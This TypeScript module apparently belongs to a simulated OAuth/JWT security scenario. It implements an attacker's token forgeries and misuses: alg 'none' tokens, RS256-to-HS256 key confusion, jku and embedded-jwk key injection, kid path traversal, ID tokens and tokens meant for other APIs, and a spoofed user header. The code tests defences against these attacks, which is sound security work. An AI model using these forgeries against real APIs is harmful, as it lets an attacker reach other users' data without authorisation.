/** The attacker: tokens that are forged, and real ones that are for something else (RFC 8725 §2.1, RFC 9700 §4.13, §4.15). */
import { base64url, CompactSign, decodeJwt, decodeProtectedHeader, importJWK, type JSONWebKeySet } from 'jose'
import { ISSUER_KEY } from '../../scenario-kit/parties/issuer-key.ts'
import type { ServerGlobals } from '../../simulation/index.ts'
import { pemOf } from './client.ts'

/** URL origin of the attacker’s shop, which is an app and an API at the same server. */
export const FRAMES = 'https://free-frames.example'

/** What the attacker has honestly: Ada has signed in to the shop. */
export interface Received {
  /** For the shop’s own API. */
  readonly access_token: string
  /** For the shop. */
  readonly id_token: string
}

/** What the attacker knows of the others. */
export interface Target {
  readonly jwks_uri: string
  readonly token_endpoint: string
  readonly api: string
  /** A client of the attacker’s own. Its identifier was free to choose. */
  readonly client_id: string
  readonly client_secret: string
}

/** What a call is made with. */
export type Credentials = { readonly authorization: string } | { readonly 'x-authenticated-user': string }

const text = (value: object) => new TextEncoder().encode(JSON.stringify(value))
const bearer = (token: string): Credentials => ({ authorization: `Bearer ${token}` })

/** The ways in, by name. */
export const WAYS = {
  // #region forged
  async unsigned(_attacker: ServerGlobals, target: Target, received: Received) {
    const parts = [{ alg: 'none', typ: 'at+jwt' }, claimsFor(target, received)].map((part) =>
      base64url.encode(text(part)),
    )
    return bearer(`${parts.join('.')}.`)
  },

  async confused({ fetch }: ServerGlobals, target: Target, received: Received) {
    // The key that checks signatures is public. Taken for a secret, it makes them.
    const { keys }: JSONWebKeySet = await (await fetch(target.jwks_uri)).json()
    const [key = { kty: 'RSA' }] = keys
    const signer = new CompactSign(text(claimsFor(target, received)))
    signer.setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', ...(key.kid !== undefined && { kid: key.kid }) })
    return bearer(await signer.sign(new TextEncoder().encode(await pemOf(key))))
  },

  async ownKey(_attacker: ServerGlobals, target: Target, received: Received) {
    const signer = new CompactSign(text(claimsFor(target, received)))
    signer.setProtectedHeader({ alg: 'RS256', typ: 'at+jwt', kid: ISSUER_KEY.kid, jku: `${FRAMES}/keys` })
    return bearer(await signer.sign(await importJWK({ ...ISSUER_KEY }, 'RS256')))
  },

  async keyInToken(_attacker: ServerGlobals, target: Target, received: Received) {
    const { kty, n, e } = ISSUER_KEY
    // Called like the issuer’s key.
    const { kid } = decodeProtectedHeader(received.access_token)
    const signer = new CompactSign(text(claimsFor(target, received)))
    signer.setProtectedHeader({ alg: 'RS256', typ: 'at+jwt', ...(kid !== undefined && { kid }), jwk: { kty, n, e } })
    return bearer(await signer.sign(await importJWK({ ...ISSUER_KEY }, 'RS256')))
  },

  async keyFile({ fetch }: ServerGlobals, target: Target, received: Received) {
    // Anybody may read this file of the API’s, and kid is the way there from the folder with its keys.
    const known = await (await fetch(`${target.api}/robots.txt`)).text()
    const signer = new CompactSign(text(claimsFor(target, received)))
    signer.setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid: '../public/robots.txt' })
    return bearer(await signer.sign(new TextEncoder().encode(known)))
  },
  // #endregion

  // #region misused
  otherApi: async (_attacker: ServerGlobals, _target: Target, { access_token }: Received) => bearer(access_token),

  idToken: async (_attacker: ServerGlobals, _target: Target, { id_token }: Received) => bearer(id_token),

  async namedLikeAPerson({ fetch }: ServerGlobals, { token_endpoint, client_id, client_secret, api }: Target) {
    const response = await fetch(token_endpoint, {
      method: 'POST',
      headers: { authorization: `Basic ${btoa(`${client_id}:${client_secret}`)}` },
      body: new URLSearchParams({ grant_type: 'client_credentials', scope: 'photos:read', resource: api }),
    })
    return bearer((await response.json()).access_token)
  },

  header: async (_attacker: ServerGlobals, _target: Target, received: Received): Promise<Credentials> => ({
    'x-authenticated-user': decodeJwt(received.access_token).sub ?? '',
  }),
  // #endregion
} as const satisfies Readonly<
  Record<string, (attacker: ServerGlobals, target: Target, received: Received) => Promise<Credentials>>
>

/** Calls the API with what was made up, and returns what it answers. */
export async function tryWay(
  attacker: ServerGlobals,
  { target, received }: { readonly target: Target; readonly received: Received },
  way: keyof typeof WAYS,
): Promise<string> {
  const headers = await WAYS[way](attacker, target, received)
  const response = await attacker.fetch(`${target.api}/photos`, { headers: { ...headers } })
  return response.text()
}

/** What a token for the API would say: all but the signature is known to whoever has seen one like it. */
function claimsFor({ api }: Target, { access_token }: Received): object {
  return { ...decodeJwt(access_token), aud: api, jti: 'made-up' }
}
